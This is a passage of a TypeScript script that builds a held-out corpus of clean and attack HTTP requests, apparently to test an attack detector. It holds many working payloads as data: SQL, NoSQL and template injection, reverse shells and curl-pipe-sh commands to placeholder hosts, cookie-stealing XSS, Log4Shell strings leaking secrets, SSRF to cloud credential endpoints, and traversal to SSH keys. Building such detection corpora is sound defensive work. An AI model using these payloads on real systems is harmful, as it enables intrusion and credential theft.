    ['order-by case', 'vin,(CASE WHEN (SELECT ascii(substr(current_user,1,1)))>100 THEN vin ELSE 1/0 END)'],
    ['mysql waitfor-like benchmark', "1' AND BENCHMARK(5000000,MD5(1))#"],
    ['sqlite union', "') UNION SELECT sql,1,1 FROM sqlite_master--"],
    ['oracle dual', "' || (SELECT banner FROM v$version WHERE ROWNUM=1) || '"],
    ['mssql waitfor', "';WAITFOR DELAY '0:0:7'--"],
  ],
  ['json-key'],
);

// nosql: operator objects, not only strings
{
  const ops: [string, unknown, string][] = [
    ['$ne login bypass', { email: 'admin@coop.example', password: { $ne: null } }, '/api/coop/auth/login'],
    ['$gt login bypass', { username: { $gt: '' }, password: { $gt: '' } }, '/api/auction/auth/login'],
    ['$where sleep', { filter: { $where: 'sleep(5000) || true' } }, '/api/fab/events/query'],
    [
      '$regex token enumeration',
      { resetToken: { $regex: '^a.*' }, newPassword: 'Hunter2!' },
      '/api/therapy/password/reset',
    ],
    [
      '$where js injection',
      {
        memberNo: "1'; return true; var x='",
        $where: 'this.credits > 0 || function(){var d=new Date();while(new Date()-d<5000){};return true}()',
      },
      '/api/coop/members/lookup',
    ],
    ['$nin empty array', { status: { $nin: [] }, owner: { $exists: true } }, '/api/charter/bookings/search'],
    [
      '$lookup pipeline injection',
      {
        pipeline: [
          { $match: { dock: 114 } },
          { $lookup: { from: 'users', localField: 'x', foreignField: 'x', as: 'leak' } },
        ],
      },
      '/api/bike/reports/aggregate',
    ],
    [
      '$expr function',
      {
        filter: {
          $expr: { $function: { body: "function(){return require('child_process')}", args: [], lang: 'js' } },
        },
      },
      '/api/press/titles/query',
    ],
    ['$or tautology', { $or: [{ isbn: 'x' }, { _id: { $exists: true } }] }, '/api/press/titles/find'],
    [
      '$in role escalation',
      { role: { $in: ['admin', 'superuser'] }, email: { $regex: '.*' } },
      '/api/music/users/find',
    ],
  ];
  for (let i = 0; i < 30; i++) {
    const [trick, body, path] = ops[i % ops.length]!;
    const mode = Math.floor(i / ops.length);
    if (mode === 0) {
      addAttack(
        'nosql',
        `${trick} via json body`,
        'POST',
        path,
        headers('application/json'),
        JSON.stringify(body),
      );
    } else if (mode === 1) {
      const s = JSON.stringify(body).replace(/\$/g, '\\u0024');
      addAttack(
        'nosql',
        `${trick} via json body with \\u0024 escaped operators`,
        'POST',
        path,
        headers('application/json'),
        s,
      );
    } else {
      const qsVariants = [
        `email=admin%40coop.example&password[$ne]=x`,
        `username[$gt]=&password[$gt]=`,
        `filter=${enc(JSON.stringify({ $where: 'sleep(5000)' }))}`,
        `token[%24regex]=%5Ea.*`,
        `q=${enc('{"$where":"this.balance>0||true"}')}`,
        `status[$nin][]=&limit=50`,
        `where=${enc(JSON.stringify({ $or: [{ a: 1 }, { _id: { $exists: true } }] }))}`,
        `filter[owner][$exists]=true&filter[role][$in][]=admin`,
        `vin[$regex]=.*&sort=-price`,
        `memberNo[%24ne]=0`,
      ];
      addAttack(
        'nosql',
        `${trick} via query-string operator`,
        'GET',
        `${path}?${qsVariants[i % qsVariants.length]}`,
        headers(),
      );
    }
  }
}

family(
  'template',
  [
    [
      'jinja2 globals popen',
      "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    ],
    ['jinja2 mro subclasses', "{{ ''.__class__.__mro__[1].__subclasses__() }}"],
    ['spring el runtime', "${T(java.lang.Runtime).getRuntime().exec('id')}"],
    ['freemarker execute', '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}'],
    ['velocity runtime', '#set($x=$class.inspect("java.lang.Runtime").type.getRuntime().exec("id"))$x'],
    [
      'handlebars/js constructor',
      "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}",
    ],
    ['ejs process', "<%= global.process.mainModule.require('child_process').execSync('whoami') %>"],
    [
      'jinja2 loop catch_warnings',
      "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').popen('whoami').read() }}{% endif %}{% endfor %}",
    ],
    ['thymeleaf preprocess', '__${T(java.lang.System).getenv()}__::.x'],
    [
      'flask request globals',
      "{{request.application.__globals__.__builtins__.__import__('os').popen('cat /etc/passwd').read()}}",
    ],
    ['jsf el forName', "#{''.getClass().forName('java.lang.Runtime').getRuntime().exec('id')}"],
    [
      'nunjucks range constructor',
      "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('whoami')\")()}}",
    ],
    ['twig filter system', "{{['id']|filter('system')}}"],
    ['smarty php tag', '{php}echo shell_exec("id");{/php}'],
    [
      'jinja2 cycler attr bypass',
      "{{ cycler|attr('__init__')|attr('__globals__')|attr('__getitem__')('os')|attr('popen')('id')|attr('read')() }}",
    ],
  ],
  ['json-key'],
);

family('command', [
  ['semicolon cat', '; cat /etc/passwd'],
  ['pipe netcat reverse shell', '| nc 203.0.113.45 4444 -e /bin/sh'],
  ['subshell curl pipe sh', '$(curl -s http://203.0.113.9/x.sh|sh)'],
  ['backtick wget', '`wget -qO- http://198.51.100.7/p|bash`'],
  ['and ping', '&& ping -c 10 127.0.0.1'],
  ['bash dev tcp', '; bash -i >& /dev/tcp/203.0.113.50/9001 0>&1'],
  ['IFS obfuscation', 'invoice.pdf;${IFS}id'],
  ['powershell encoded', 'x || powershell -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA'],
  ['newline injection', 'report.csv\nid\n'],
  ['base64 pipe sh', '$(echo${IFS}Y2F0IC9ldGMvc2hhZG93|base64${IFS}-d|sh)'],
  ['busybox telnetd', '; /bin/busybox telnetd -l /bin/sh -p 9999'],
  ['rm rf', '|| rm -rf / --no-preserve-root #'],
  ['quote-split binary', "; c'a't /e\"t\"c/pa''sswd"],
  ['brace expansion', ';{cat,/etc/passwd}'],
  ['windows cmd type', '& type C:\\Windows\\win.ini &'],
]);

family(
  'xss',
  [
    ['script cookie exfil', "<script>fetch('//x.example/c?'+document.cookie)</script>"],
    ['img onerror', '<img src=x onerror=alert(document.domain)>'],
    ['svg onload atob', "<svg/onload=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>"],
    ['iframe srcdoc', '"><iframe srcdoc="<script>parent.alert(1)</script>">'],
    ['javascript url', 'javascript:alert(document.cookie)//'],
    ['entity-split javascript href', '<a href="jav&#x09;ascript:alert(1)">details</a>'],
    ['details ontoggle', "<details open ontoggle=fetch('https://x.example/'+localStorage.token)>"],
    ['mathml mutation', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
    ['body onload template literal', '<body onload=alert`1`>'],
    ['textarea breakout', '</textarea><script>alert(1)</script>'],
    ['input autofocus', '<input autofocus onfocus=alert(1)>'],
    ['nested script tag', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
    ['attribute breakout', '" onmouseover="alert(document.cookie)" x="'],
    [
      'object data uri',
      '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    ],
    ['uppercase svg animate', '<SVG><ANIMATE onbegin=alert(1) attributeName=x dur=1s>'],
  ],
  ['json-key'],
);

family('log4shell', [
  ['plain jndi ldap', '${jndi:ldap://203.0.113.7:1389/a}'],
  ['lower lookup', '${${lower:j}ndi:${lower:l}dap://x.example/o}'],
  ['default-value split', '${${::-j}${::-n}${::-d}${::-i}:rmi://198.51.100.3/Exploit}'],
  ['dns env exfil', '${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.x.example}'],
  ['env NaN default', '${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x.example/a}'],
  ['ldaps sys exfil', '${jndi:ldaps://x.example:636/${sys:java.version}}'],
  ['upper iiop', '${${upper:j}ndi:iiop://203.0.113.8/x}'],
  ['k8s lookup default', '${j${k8s:k5:-ND}i:ldap://x.example/q}'],
  ['partial lower protocol', '${jndi:${lower:l}${lower:d}a${lower:p}://x.example/b}'],
  ['date lookup split', "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x.example/c}"],
]);

family('ssrf', [
  ['aws imds', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'],
  [
    'gcp metadata',
    'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
  ],
  ['decimal ip imds', 'http://2852039166/latest/meta-data/'],
  ['ipv4-mapped ipv6 imds', 'http://[::ffff:a9fe:a9fe]/latest/meta-data/'],
  ['gopher redis', 'gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A'],
  ['file scheme', 'file:///etc/passwd'],
  ['hex ip loopback', 'http://0x7f000001:8080/admin'],
  ['userinfo confusion docker api', 'http://cdn.example.com@127.0.0.1:2375/containers/json'],
  ['dict memcached', 'dict://127.0.0.1:11211/stats'],
  ['octal loopback', 'http://0177.0.0.1/server-status'],
  ['aws imds ipv6', 'http://[fd00:ec2::254]/latest/meta-data/'],
  ['ecs task credentials', 'http://169.254.170.2/v2/credentials'],
  ['kubernetes api', 'https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets'],
  [
    'azure imds',
    'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/',
  ],
  ['localhost admin', 'http://localhost:9901/config_dump'],
]);

// ssrf in URL-typed fields is what APIs actually fetch; replace a few generic placements with url fields
{
  const urlFields: [string, string, (u: string) => unknown][] = [
    [
      'webhook callback url',
      '/api/charter/webhooks',
      (u) => ({ event: 'booking.confirmed', callbackUrl: u, secret: hex(16) }),
    ],
    ['avatar import url', '/api/coop/members/me/avatar', (u) => ({ importFrom: { url: u } })],
    ['cover image fetch', '/api/press/titles/covers', (u) => ({ isbn: isbn13(), coverUrl: u })],
    ['vin report link', '/api/auction/reports/fetch', (u) => ({ vin: pick(VINS), providerUrl: u })],
  ];
  // Overwrite the technique-free replacement: append is not allowed (30 per family), so reuse the last four slots.
  const ssrfStart = attacks.findIndex((a) => a.family === 'ssrf');
  for (let k = 0; k < urlFields.length; k++) {
    const [trick, path, mk] = urlFields[k]!;
    const idx = ssrfStart + 26 + k;
    const target = pick([
      'http://169.254.169.254/latest/user-data',
      'http://[0:0:0:0:0:ffff:127.0.0.1]:6379/',
      'http://127.1/admin',
      'jar:http://127.0.0.1:8080/x.zip!/',
    ]);
    attacks[idx] = {
      id: attacks[idx]!.id,
      kind: 'attack',
      family: 'ssrf',
      technique: `${trick} to internal address`,
      method: 'POST',
      path,
      headers: headers('application/json'),
      body: JSON.stringify(mk(target)),
    };
  }
}

family('path-traversal', [
  ['dot-dot-slash', '../../../../etc/passwd'],
  ['encoded slash', '..%2f..%2f..%2fetc%2fshadow'],
  ['filter-bypass doubled dots', '....//....//....//etc/hosts'],
  ['windows backslash', '..\\..\\..\\windows\\win.ini'],
  ['encoded dots', '%2e%2e%2f%2e%2e%2fconfig%2f.env'],
  ['absolute then up', '/var/www/../../proc/self/environ'],
  ['double encoding', '..%252f..%252f..%252fetc%252fpasswd'],
  ['overlong utf8', '..%c0%af..%c0%afetc/passwd'],
  ['suffix then up', 'cover.png/../../../../root/.ssh/id_rsa'],
  ['null-byte extension', '../../../../app/.env%00.pdf'],
  ['tomcat semicolon', '/..;/..;/actuator/env'],
  ['unicode fullwidth', '..／..／..／etc／passwd'],
]);

// path traversal in the request target itself (file download endpoints)
{
  const start = attacks.findIndex((a) => a.family === 'path-traversal');
  const targets = [
    ['download param', `/api/press/files/download?name=${'..%2F'.repeat(5)}etc%2Fpasswd`],
    ['score scan path segment', '/api/music/scans/%2e%2e/%2e%2e/%2e%2e/etc/passwd'],
    ['recipe export', `/api/fab/recipes/export?file=${enc('../../../../opt/fab/secrets.yaml')}`],
    [
      'receipt template',
      '/api/coop/receipts/render?template=..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts',
    ],
  ];
  for (let k = 0; k < targets.length; k++) {
    const [trick, path] = targets[k]!;
    const idx = start + 26 + k;
    attacks[idx] = {
      id: attacks[idx]!.id,
      kind: 'attack',
      family: 'path-traversal',
      body: '',
      technique: `${trick} in request target`,
      method: 'GET',
      path: path!,
      headers: headers(),
    };
  }
}

// prototype pollution: keys, not values
{
  const json = (o: unknown): string => JSON.stringify(o);
  const cases: [string, string, string, string, string][] = [
    [
      '__proto__ top-level',
      'POST',
      '/api/coop/members/me/preferences',
      'application/json',
      '{"newsletter":true,"__proto__":{"isAdmin":true}}',
    ],
    [
      'constructor.prototype',
      'POST',
      '/api/charter/bookings',
      'application/json',
      json({ yachtId: 'YC-7HQ2K9', constructor: { prototype: { role: 'admin' } } }),
    ],
    [
      'nested __proto__',
      'PUT',
      '/api/therapy/clients/me/settings',
      'application/json',
      '{"notifications":{"sms":false,"__proto__":{"polluted":"yes"}}}',
    ],
    [
      'merge-patch __proto__',
      'PATCH',
      '/api/bike/docks/114',
      'application/merge-patch+json',
      '{"capacity":24,"__proto__":{"canDelete":true}}',
    ],
    [
      'json-patch proto path',
      'PATCH',
      '/api/fab/recipes/POLY_ETCH_45S',
      'application/json-patch+json',
      json([{ op: 'add', path: '/__proto__/isAdmin', value: true }]),
    ],
    [
      'unicode-escaped __proto__ key',
      'POST',
      '/api/music/loans',
      'application/json',
      '{"copies":12,"\\u005f\\u005fproto\\u005f\\u005f":{"isLibrarian":true}}',
    ],
    [
      'ejs outputFunctionName gadget',
      'POST',
      '/api/press/titles/preview',
      'application/json',
      '{"isbn":"9781402894626","__proto__":{"outputFunctionName":"x;process.mainModule.require(\'child_process\').execSync(\'id\');x"}}',
    ],
    [
      'dotted path setter',
      'POST',
      '/api/auction/users/me/settings',
      'application/json',
      json({ path: '__proto__.isAdmin', value: true }),
    ],
    [
      'child_process env gadget',
      'POST',
      '/api/fab/jobs',
      'application/json',
      '{"job":"report","__proto__":{"shell":"/proc/self/exe","NODE_OPTIONS":"--require /proc/self/environ","env":{"EVIL":"console.log(1)//"}}}',
    ],
    [
      'array-wrapped __proto__',
      'POST',
      '/api/coop/orders',
      'application/json',
      '{"lines":[{"sku":"SKU-1234","qty":1,"__proto__":{"price":0}}]}',
    ],
    [
      'constructor in jsonapi attributes',
      'POST',
      '/jsonapi/bids',
      'application/vnd.api+json',
      '{"data":{"type":"bids","attributes":{"amount":100,"constructor":{"prototype":{"approved":true}}}}}',
    ],
    [
      'graphql variables __proto__',
      'POST',
      '/graphql',
      'application/json',
      '{"query":"mutation S($p: JSON) { savePrefs(prefs: $p) }","variables":{"p":{"__proto__":{"isStaff":true}}}}',
    ],
    [
      'json inside string',
      'POST',
      '/api/bike/webhooks/ingest',
      'application/json',
      json({ payload: '{"__proto__":{"isAdmin":true}}' }),
    ],
    [
      'form bracket __proto__',
      'POST',
      '/forms/coop/profile',
      'application/x-www-form-urlencoded',
      '__proto__%5BisAdmin%5D=true&name=Ana',
    ],
    [
      'form constructor prototype',
      'POST',
      '/forms/music/signup',
      'application/x-www-form-urlencoded',
      'constructor[prototype][canUpload]=1&voice=alto',
    ],
  ];
  for (const [trick, method, path, ct, body] of cases) {
    addAttack('prototype-pollution', trick, method, path, headers(ct), body);
  }
  const queryCases: [string, string][] = [
    ['query bracket __proto__', '/api/charter/yachts?__proto__[admin]=1&guests=4'],
    ['query constructor prototype', '/api/auction/lots?constructor[prototype][isStaff]=true'],
    ['query dotted __proto__', '/api/bike/docks?__proto__.shell=%2Fbin%2Fsh'],
    ['query encoded __proto__', '/api/press/titles?%5F%5Fproto%5F%5F%5Bverified%5D=true'],
    ['query constructor dotted', '/api/coop/products?constructor.prototype.discount=100'],
    ['query nested filter proto', '/api/therapy/availability?filter[__proto__][role]=admin'],
    ['query percent-encoded brackets', '/api/music/scores?__proto__%5BisLibrarian%5D=true'],
    ['query array proto', '/api/fab/tools?tags[__proto__][]=x&tags[__proto__][polluted]=1'],
  ];
  for (const [trick, path] of queryCases) addAttack('prototype-pollution', trick, 'GET', path, headers());
  const deep: [string, string][] = [
    ['deep nested constructor', json({ a: { b: { c: { constructor: { prototype: { isAdmin: true } } } } } })],
    ['__proto__ with toString override', '{"profile":{"__proto__":{"toString":"x","valueOf":"y"}}}'],
    ['mixed case evasion plus real key', '{"__PROTO__":{"a":1},"__proto__":{"polluted":true}}'],
    ['duplicate key override', '{"settings":{"theme":"dark"},"settings":{"__proto__":{"isAdmin":true}}}'],
    [
      'ndjson line __proto__',
      '{"ts":"2026-03-01T10:00:00Z","event":"view"}\n{"__proto__":{"isAdmin":true}}\n',
    ],
    [
      'prototype key via constructor array',
      '{"items":[{"constructor":{"prototype":{"sendmail":"/bin/sh"}}}]}',
    ],
    ['escaped constructor key', '{"\\u0063onstructor":{"\\u0070rototype":{"role":"admin"}}}'],
  ];
  for (let k = 0; k < deep.length; k++) {
    const [trick, body] = deep[k]!;
    const nd = trick.startsWith('ndjson');
    addAttack(
      'prototype-pollution',
      trick,
      'POST',
      `/api/${DOMAINS[k % 8]}/sync`,
      headers(nd ? 'application/x-ndjson' : 'application/json'),
      body,
    );
  }
}

/** Corpus 28: clean API traffic and hidden attacks (30 per family) for the eight corpus-28 domains. */
export const heldout28: { readonly clean: CorpusRequest[]; readonly attacks: CorpusRequest[] } = {
  clean,
  attacks,
};

if (import.meta.main) {
  const dir = import.meta.dirname;
  writeFileSync(join(dir, 'clean-heldout28.json'), JSON.stringify(clean, null, 2) + '\n');
  writeFileSync(join(dir, 'attacks-heldout28.json'), JSON.stringify(attacks, null, 2) + '\n');
  const count = (xs: CorpusRequest[], key: 'kind' | 'family'): Record<string, number> => {
    const out: Record<string, number> = {};
    for (const x of xs) out[x[key] ?? '?'] = (out[x[key] ?? '?'] ?? 0) + 1;
    return out;
  };
  console.log(`clean: ${clean.length}`, count(clean, 'kind'));
  console.log(`attacks: ${attacks.length}`, count(attacks, 'family'));
}
